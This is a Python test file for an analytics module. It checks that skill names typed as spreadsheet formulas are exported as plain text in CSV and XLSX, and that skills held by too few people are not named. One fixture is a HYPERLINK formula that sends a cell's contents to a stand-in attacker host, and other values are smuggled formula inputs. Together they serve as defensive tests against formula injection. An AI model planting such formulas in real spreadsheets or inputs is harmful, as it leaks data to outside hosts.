"""Analytics exports: a skill someone typed as a formula stays text in CSV and XLSX, and a
skill known only from fewer people than the threshold is not named at all."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from analytics import exports
from analytics.network import _skills
from analytics.periods import parse_period
from analytics.reports import Report, Table

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'


def profile(*skills: str) -> dict[str, object]:
    version = {
        "at": datetime(2026, 3, 1, tzinfo=UTC),
        "fact": "f",
        "offered": [{"skill": s} for s in skills],
        "wanted": [],
    }
    return {"versions": [version]}


def test_a_skill_of_fewer_people_than_the_threshold_is_not_named() -> None:
    period = parse_period("2026", "Europe/Helsinki")
    people = [profile("python", FORMULA if n == 0 else "python") for n in range(6)]
    table = _skills(people, [], [{"_id": "e1", "topics": ["design"]}], {}, period, 5)
    labels = [row[0] for row in table.rows]
    assert "python" in labels and "design" in labels  # enough people; an event's topic
    assert FORMULA not in labels and None in labels
    assert table.rows[labels.index(None)] == [None, None, None, None, 0, None]


def test_formula_skills_are_text_in_every_export() -> None:
    report = Report(
        "network",
        "helsinki",
        "2026",
        5,
        [
            Table(
                "skills",
                "Skills",
                ["skill", "people_offering", "people_asking"],
                [[FORMULA, 7, None], ["\t=1+1", 0, 9], ["  -2+3", 5, 6]],
            )
        ],
    )
    rows = list(csv.reader(io.StringIO(exports.to_csv(report), newline="")))
    labels = {row[4] for row in rows[1:]}
    assert labels == {"'" + FORMULA, "'\t=1+1", "'  -2+3"}
    book = load_workbook(io.BytesIO(exports.to_xlsx(report)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert "f" not in {c.data_type for c in cells}
    skills = book["skills"]
    assert skills["A3"].value == FORMULA and skills["A3"].data_type == "s"
    assert skills["B3"].value == 7 and skills["C3"].value == "<5"
    assert skills["A1"].font.bold and skills["A2"].font.bold
